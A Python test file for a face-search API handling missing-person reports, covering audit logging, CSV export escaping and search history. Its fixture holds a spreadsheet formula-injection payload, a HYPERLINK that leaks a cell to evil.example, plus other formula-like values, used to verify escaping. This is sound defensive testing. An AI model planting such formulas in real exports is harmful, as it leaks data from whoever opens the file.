"""Quieter records over the API (SQLite and PostgreSQL): one audit event per read, CSV exports
whose formula-like cells a spreadsheet shows as text, and the history of past searches."""

from __future__ import annotations

import csv
import io
from typing import Any

from apitest import Api, face_images, upload

from facetrace.store.audit import list_events, summarise_views

P = "/api/v1"
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "reported_by": "+1",
    "source": "-2",
    "legal_basis": "@SUM(A1:A9)",
}


def _events_of_request(api: Api, response: Any) -> list[dict[str, Any]]:
    """The audit events appended while serving ``response`` (those carrying its request id)."""
    request_id = response.headers["X-Request-ID"]
    return [e for e in api.audit() if e["detail"].get("request_id") == request_id]


def _read_csv(response: Any) -> list[dict[str, str]]:
    """Check that ``response`` is a CSV download; return its rows as dictionaries."""
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    assert response.headers["cache-control"] == "no-store"
    text = response.content.decode("utf-8-sig")  # the byte-order mark spreadsheets need for Cyrillic
    return list(csv.DictReader(io.StringIO(text)))


def test_one_api_read_is_one_audit_event(api: Api) -> None:
    intake, reader = api.as_("intake"), api.as_("reviewer")
    report = api.client.post(
        f"{P}/reports",
        json={"name": "Mykola Once", "reported_by": "sister", "source": "form", "legal_basis": "consent"},
        headers=intake,
    )
    assert report.status_code == 201, report.text
    case = api.client.post(f"{P}/cases", json={"condition": "deceased", "found_place": "Irpin"}, headers=intake)
    assert case.status_code == 201, case.text
    reference, case_reference = report.json()["report"]["reference"], case.json()["case"]["reference"]
    report_id, case_id = report.json()["report"]["id"], case.json()["case"]["id"]

    shown = api.client.get(f"{P}/reports/{reference}", headers=reader)
    assert shown.status_code == 200
    events = _events_of_request(api, shown)
    assert [(e["action"], e["actor"], e["records"]) for e in events] == [
        ("report.view", "reviewer", [f"report:{report_id}"])
    ]
    shown = api.client.get(f"{P}/cases/{case_reference}", headers=reader)
    assert shown.status_code == 200
    assert [(e["action"], e["records"]) for e in _events_of_request(api, shown)] == [("case.view", [f"case:{case_id}"])]
    # A role refusal is one event too (access.denied, from the route's role check).
    refused = api.client.get(f"{P}/reports/{reference}", headers=api.as_("auditor"))
    assert refused.status_code == 403
    assert [(e["action"], e["outcome"]) for e in _events_of_request(api, refused)] == [("access.denied", "denied")]


def test_csv_exports_escape_formulas_and_are_audited(api: Api) -> None:
    intake, reader, auditor = api.as_("intake"), api.as_("reviewer"), api.as_("auditor")
    created = api.client.post(f"{P}/reports", json={**HOSTILE, "description": "Мельник, =2+3"}, headers=intake)
    assert created.status_code == 201, created.text
    api.client.post(f"{P}/reports", json={**HOSTILE, "name": "Plain Name"}, headers=intake)
    hostile_case = {"condition": "alive", "found_place": "=1+2", "holding_organisation": "@ICRC"}
    case = api.client.post(f"{P}/cases", json=hostile_case, headers=intake)
    assert case.status_code == 201, case.text

    rows = _read_csv(api.client.get(f"{P}/reports.csv", params={"q": "HYPERLINK"}, headers=reader))
    assert len(rows) == 1
    row = rows[0]
    assert row["name"] == "'" + HOSTILE["name"]
    assert (row["reported_by"], row["source"], row["legal_basis"]) == ("'+1", "'-2", "'@SUM(A1:A9)")
    assert row["description"] == "Мельник, =2+3"  # only a cell's first character makes a formula
    assert row["reference"] == created.json()["report"]["reference"] and row["status"] == "missing"
    assert len(_read_csv(api.client.get(f"{P}/reports.csv", headers=reader))) == 2

    cases = _read_csv(api.client.get(f"{P}/cases.csv", params={"status": "open"}, headers=reader))
    assert [(c["found_place"], c["holding_organisation"]) for c in cases] == [("'=1+2", "'@ICRC")]
    bad = api.client.get(f"{P}/cases.csv", params={"status": "sideways"}, headers=reader)
    assert bad.status_code == 422 and bad.json()["error"]["code"]

    # A sign-in attempt records the user name as typed: the audit trail's CSV escapes it as well.
    api.client.post(f"{P}/auth/login", json={"username": HOSTILE["name"], "password": "wrong password"})
    trail = _read_csv(api.client.get(f"{P}/audit.csv", params={"action": "login"}, headers=auditor))
    assert [(e["action"], e["label"], e["outcome"]) for e in trail] == [("login", "signed in", "denied")]
    assert trail[0]["actor"] == "'" + HOSTILE["name"].lower()
    everything = _read_csv(api.client.get(f"{P}/audit.csv", headers=auditor))
    actions = {e["action"] for e in everything}
    assert {"report.create", "case.create", "report.list_export", "case.list_export"} <= actions
    assert [int(e["id"]) for e in everything] == sorted((int(e["id"]) for e in everything), reverse=True)

    exported = api.audit("report.list_export")
    assert [(e["actor"], e["detail"]["rows"], e["detail"].get("q")) for e in exported] == [
        ("reviewer", 1, "HYPERLINK"),
        ("reviewer", 2, None),
    ]
    assert [e["outcome"] for e in api.audit("case.list_export")] == ["ok", "error"]
    audit_exports = api.audit("audit.export")
    assert [(e["detail"].get("action"), e["detail"]["rows"]) for e in audit_exports] == [
        ("login", 1),
        (None, len(everything)),
    ]


def test_past_searches_list_who_searched_what_for_which_case(gallery_api: Api) -> None:
    api = gallery_api
    probe = face_images("Bill_Paxton")[2]
    searched = api.client.post(
        f"{P}/search",
        data={"case_reference": "CASE-HIST-1", "purpose": "identify the man in the photo"},
        files=[upload(probe)],
        headers=api.as_("examiner"),
    )
    assert searched.status_code == 200, searched.text
    result = searched.json()
    for reader in ("reviewer", "auditor", "examiner"):
        page = api.client.get(f"{P}/searches", params={"user": "examiner"}, headers=api.as_(reader))
        assert page.status_code == 200, page.text
        mine = [s for s in page.json()["items"] if s["case_reference"] == "CASE-HIST-1"]
        assert len(mine) == 1, page.json()
        search = mine[0]
        assert search["kind"] == "photo" and search["user"] == "examiner" and search["outcome"] == "ok"
        assert search["purpose"] == "identify the man in the photo"
        assert search["found"] == len(result["faces"]) == 1
        assert search["matches"] == [f["match"] for f in result["faces"] if f["match"]]
    assert api.audit("search.history.view")[-1]["actor"] == "examiner"
    assert api.client.get(f"{P}/searches", headers=api.as_("intake")).status_code == 403


def test_views_are_counted_for_a_record_history(api: Api) -> None:
    """What a record's history shows (web pages): the views counted per kind, every other event listed."""
    created = api.client.post(
        f"{P}/reports",
        json={"name": "Olha Counted", "reported_by": "aunt", "source": "form", "legal_basis": "consent"},
        headers=api.as_("intake"),
    )
    assert created.status_code == 201, created.text
    report = created.json()["report"]
    for identity, times in (("reviewer", 3), ("examiner", 2)):
        for _ in range(times):
            assert api.client.get(f"{P}/reports/{report['reference']}", headers=api.as_(identity)).status_code == 200
    records = [f"report:{report['id']}"]
    with api.service.db.sessions() as session:
        summaries = summarise_views(session, records)
        listed, total = list_events(session, records=records, skip_ok_views=True)
        _, everything = list_events(session, records=records)
    assert [(s.action, s.count, s.users) for s in summaries] == [("report.view", 5, 2)]
    assert summaries[0].first <= summaries[0].last
    assert "report.create" in [e.action for e in listed] and not any(e.action.endswith(".view") for e in listed)
    assert everything == total + 5
